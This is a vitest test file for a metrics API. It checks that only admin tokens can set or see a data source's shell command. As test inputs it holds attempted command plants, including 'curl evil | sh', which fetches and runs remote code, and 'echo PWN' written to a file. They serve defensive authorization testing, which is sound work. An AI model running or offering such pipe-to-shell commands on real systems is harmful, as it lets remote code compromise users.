import {existsSync} from 'node:fs'
import path from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {addDataSource, listDataSources, runPoints} from '../../src/core/points.js'
import {type DemoSetup, type Requester, requester, setupDemo} from '../server/helpers.js'

// Issue 10 item 2: a data source's command is a shell command line run on the machine of whoever
// runs the source, so only an admin (or the database file's own user) may set it, and only an
// admin sees it.

let s: DemoSetup
let call: Requester

beforeAll(async () => {
  s = await setupDemo()
  call = requester(s.catalog, {tokens: s.tokens})
})
afterAll(() => s.cleanup())

describe('setting a command through the API', () => {
  it('a service token cannot plant a command: 403, nothing stored, nothing run', async () => {
    const planted = path.join(s.dir, 'planted.txt')
    const r = await call('POST', '/api/data-sources', {token: s.token.service, body: {id: 'x', command: `echo PWN > ${planted}`}})
    expect(r.status).toBe(403)
    expect(r.body.error).toMatchObject({code: 'FORBIDDEN', message: expect.stringMatching(/needs the admin role/)})
    expect(await listDataSources(s.catalog)).toEqual([])
    await expect(runPoints(s.catalog, {defaults: {dataSourceId: 'x'}})).rejects.toThrow(/nothing to run/)
    expect(existsSync(planted)).toBe(false)
  })

  it('nor change the command of an existing source (HIT alias path and ?update=true too)', async () => {
    await addDataSource(s.catalog, {id: 'steam', command: 'python3 steam.py'})
    for (const p of ['/api/data-sources?update=true', '/api/metrics/data-sources?update=true']) {
      const r = await call('POST', p, {token: s.token.service, body: {id: 'steam', command: 'curl evil | sh'}})
      expect(r.status).toBe(403)
    }
    expect((await listDataSources(s.catalog)).find((x) => x.id === 'steam')!.command).toBe('python3 steam.py')
  })

  it('a service token may still register and update a source without a command', async () => {
    const r = await call('POST', '/api/data-sources?update=true', {token: s.token.service, body: {id: 'steam', name: 'Steam'}})
    expect(r.status).toBe(200)
    expect(r.body.source).toMatchObject({id: 'steam', name: 'Steam'})
    expect(r.body.source).not.toHaveProperty('command')
  })

  it('an admin token may set it', async () => {
    const r = await call('POST', '/api/data-sources', {token: s.token.admin, body: {id: 'gh', command: 'sh stars.sh'}})
    expect(r.status).toBe(201)
    expect(r.body.source.command).toBe('sh stars.sh')
  })

  it('a run reported by a service token registers the source without its command', async () => {
    const r = await call('POST', '/api/metrics/runs', {token: s.token.service, body: {command: 'echo planted', status: 'failed', exitCode: 1, dataSourceId: 'new-src'}})
    expect(r.status).toBe(200)
    expect(r.body).toMatchObject({status: 'failed', registered: true})
    expect((await listDataSources(s.catalog)).find((x) => x.id === 'new-src')!.command).toBeNull()
  })
})

describe('seeing commands', () => {
  it('only an admin token sees them', async () => {
    const admin = await call('GET', '/api/data-sources', {token: s.token.admin})
    expect(admin.body.data_sources.find((x: {id: string}) => x.id === 'steam').command).toBe('python3 steam.py')
    for (const p of ['/api/data-sources', '/api/metrics/data-sources']) {
      const analyst = await call('GET', p, {token: s.token.analyst})
      expect(analyst.status).toBe(200)
      expect(analyst.body.data_sources.length).toBeGreaterThan(0)
      for (const source of analyst.body.data_sources) expect(source).not.toHaveProperty('command')
    }
  })

  it('the database file itself (the CLI on it) sees and sets commands', async () => {
    await addDataSource(s.catalog, {id: 'local', command: 'node fetch.js'})
    expect((await listDataSources(s.catalog)).find((x) => x.id === 'local')!.command).toBe('node fetch.js')
  })
})
